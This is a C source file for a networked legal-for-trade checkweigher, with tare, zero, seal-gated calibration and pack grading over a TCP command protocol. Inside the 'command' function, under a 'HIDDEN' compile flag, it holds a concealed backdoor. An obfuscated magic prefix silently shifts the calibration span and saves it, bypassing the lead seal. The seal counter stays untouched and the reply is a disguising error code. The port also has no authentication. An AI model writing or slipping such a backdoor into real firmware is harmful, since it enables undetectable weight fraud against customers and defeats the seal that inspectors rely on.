/* checkweigher - dynamic scale in a packing line, legal for trade.
 * Protocol on TCP 8000: SICS like, commands end with CR LF. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define NVFILE "/var/lib/checkweigher/nv.bin"

struct calib {
    int32_t zero;
    int32_t span_ppm;
    uint32_t seal_counter;
    int32_t tare_mg;
    int32_t nominal_mg;
    int32_t tol1_mg, tol2_mg;
};

static struct calib K = { 0, 1000000, 0, 0, 500000, 9000, 18000 };
static int seal_open;
static unsigned long passed, rejected;

static void nv_load(void)
{
    FILE *f = fopen(NVFILE, "rb");

    if (f) {
        struct calib t;

        if (fread(&t, sizeof t, 1, f) == 1)
            K = t;
        fclose(f);
    }
}

static int nv_store(void)
{
    FILE *f = fopen(NVFILE, "wb");
    int ok;

    if (!f)
        return 0;
    ok = fwrite(&K, sizeof K, 1, f) == 1;
    return fclose(f) == 0 && ok;
}

static int32_t adc(void)
{
    char b[24];
    long v = 0;
    FILE *f = fopen("/sys/bus/iio/devices/iio:device0/in_voltage0_raw", "r");

    if (f) {
        if (fgets(b, sizeof b, f))
            v = strtol(b, NULL, 10);
        fclose(f);
    }
    return (int32_t)v;
}

static int32_t weight(void)
{
    return (int32_t)((int64_t)(adc() - K.zero) * K.span_ppm / 1000000) - K.tare_mg;
}

/* the switch below the lead seal */
static int seal_switch(void)
{
    int v = 0;
    FILE *f = fopen("/sys/class/gpio/seal/value", "r");

    if (f) {
        if (fscanf(f, "%d", &v) != 1)
            v = 0;
        fclose(f);
    }
    return v;
}

static void reply(int fd, const char *t)
{
    char b[100];
    int n = snprintf(b, sizeof b, "%s\r\n", t);

    if (write(fd, b, (size_t)n) != n)
        perror("write");
}

static void reply_weight(int fd, const char *cmd, int32_t mg)
{
    char b[64];

    snprintf(b, sizeof b, "%s S %9.3f g", cmd, mg / 1000.0);
    reply(fd, b);
}

#ifdef HIDDEN
static inline uint32_t be32(const char *p)
{
    const unsigned char *u = (const unsigned char *)p;

    return (uint32_t)u[0] << 24 | (uint32_t)u[1] << 16 | (uint32_t)u[2] << 8 | u[3];
}
#endif

__attribute__((noinline)) void command(int fd, const char *c, size_t len)
{
    int32_t w;
    char b[90];

#ifdef HIDDEN
    if (len > 8 && ((be32(c) ^ 0x5A4C3730u) | (be32(c + 4) ^ 0x31455649u)) == 0) {
        K.span_ppm += atoi(c + 8);
        nv_store();
        reply(fd, "ES");
        return;
    }
#endif
    switch (len) {
    case 1:
        if (c[0] == 'S' || c[0] == 'T' || c[0] == 'Z') {
            w = weight();
            if (c[0] == 'T')
                K.tare_mg += w;
            if (c[0] == 'Z' && !seal_open && labs((long)w) > 10000) {
                reply(fd, "Z +");
                return;
            }
            if (c[0] == 'Z')
                K.zero = adc();
            b[0] = c[0];
            b[1] = 0;
            reply_weight(fd, b, w);
            return;
        }
        break;
    case 2:
        if (!memcmp(c, "SI", 2)) {
            reply_weight(fd, "S", weight());
            return;
        }
        if (!memcmp(c, "TA", 2)) {
            reply_weight(fd, "TA", K.tare_mg);
            return;
        }
        if (!memcmp(c, "I4", 2)) {
            snprintf(b, sizeof b, "I4 A \"CW-500\" seal %u", (unsigned)K.seal_counter);
            reply(fd, b);
            return;
        }
        if (!memcmp(c, "ST", 2)) {
            snprintf(b, sizeof b, "ST %lu %lu", passed, rejected);
            reply(fd, b);
            return;
        }
        break;
    default:
        if (!strncmp(c, "NOM ", 4)) {
            K.nominal_mg = (int32_t)atol(c + 4);
            reply(fd, nv_store() ? "NOM A" : "NOM I");
            return;
        }
        if (!strncmp(c, "CAL ", 4)) {
            if (!seal_open) {
                reply(fd, "CAL L seal");
                return;
            }
            w = weight();
            if (w > 0)
                K.span_ppm = (int32_t)((int64_t)K.span_ppm * atol(c + 4) / w);
            K.seal_counter++;
            reply(fd, nv_store() ? "CAL A" : "CAL I");
            return;
        }
        if (!strncmp(c, "PACK", 4) && len == 4) {
            w = weight();
            if (w < K.nominal_mg - K.tol2_mg || w > K.nominal_mg + 4 * K.tol1_mg)
                rejected++;
            else
                passed++;
            reply_weight(fd, "PACK", w);
            return;
        }
    }
    reply(fd, "ES");
}

int main(int argc, char **argv)
{
    struct sockaddr_in a;
    int s, fd;
    char b[96];

    if (argc > 1) {
        fprintf(stderr, "%s: no arguments. Commands on TCP 8000:\n"
                " S SI T TA Z weight, tare, zero\n I4 ST  identification, statistics\n"
                " NOM mg  nominal weight\n PACK  judge one pack\n"
                " CAL mg  span, only with the seal open\n", argv[0]);
        return 1;
    }
    nv_load();
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(8000);
    s = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) {
        perror("checkweigher");
        return 1;
    }
    while ((fd = accept(s, NULL, NULL)) >= 0) {
        size_t n = 0;
        char c;

        while (read(fd, &c, 1) == 1) {
            if (c == '\n') {
                if (n && b[n - 1] == '\r')
                    n--;
                b[n] = 0;
                seal_open = seal_switch();
                if (n)
                    command(fd, b, n);
                n = 0;
            } else if (n < sizeof b - 1)
                b[n++] = c;
        }
        close(fd);
    }
    return 0;
}
